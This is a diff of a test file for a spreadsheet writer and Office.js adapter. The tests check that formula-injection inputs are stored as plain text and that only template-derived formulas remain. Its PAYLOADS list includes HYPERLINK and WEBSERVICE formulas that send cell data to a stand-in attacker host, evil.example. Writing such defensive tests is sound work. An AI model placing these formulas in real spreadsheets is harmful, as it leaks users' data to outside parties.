@@ -14,6 +14,7 @@ import { writeWorkbook } from '../src/node/xlsx-write';
 import { baseContent } from '../src/node/bad-fixtures';
 import { bookWith, gridOf, masterContent, runOf } from './support/standin';
 import { ensureBuilt, tempDir, thidua } from './support/xlsx-cli';
+import { DERIVED_FORMULA, xmlUnescape } from './support/derived';
 
 const PAYLOADS = [
   '=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', '=WEBSERVICE("http://evil.example/"&A1)',
@@ -61,7 +62,8 @@ describe('the .xlsx writer, through the real CLI', () => {
     // The input itself: only the template's derived columns are formulas.
     const inXml = await sheetXml(input);
     const inFormulas = [...inXml.sheets.values()].flatMap((x) => [...x.matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]));
-    expect(inFormulas.every((f) => /^EVN\.SAVING(PCT|ELIGIBLE)\(F\d+,E\d+\)$/.test(f))).toBe(true);
+    expect(inFormulas.filter((f) => !DERIVED_FORMULA.test(xmlUnescape(f)))).toEqual([]);
+    expect(inFormulas.length).toBeGreaterThan(0);
 
     const out = path.join(dir, 'xep-hang.xlsx');
     const r = thidua(['rank', input, '--out', out, '--json']);
@@ -118,7 +120,7 @@ describe('the Office.js adapter (strict stand-in: "=…" becomes a formula unles
     let seen = 0;
     for (const name of INPUT_SHEETS) {
       for (const [addr, m] of wb.sheet(name)!.cells) {
-        if (m.f) expect({ name, addr, f: m.f }).toEqual({ name, addr, f: expect.stringMatching(/^=EVN\.SAVING(PCT|ELIGIBLE)\(/) });
+        if (m.f) expect({ name, addr, f: m.f }).toEqual({ name, addr, f: expect.stringMatching(DERIVED_FORMULA) });
         if (isPayload(m.v)) { seen++; expect({ name, addr, fmt: m.fmt }).toEqual({ name, addr, fmt: '@' }); }
       }
     }
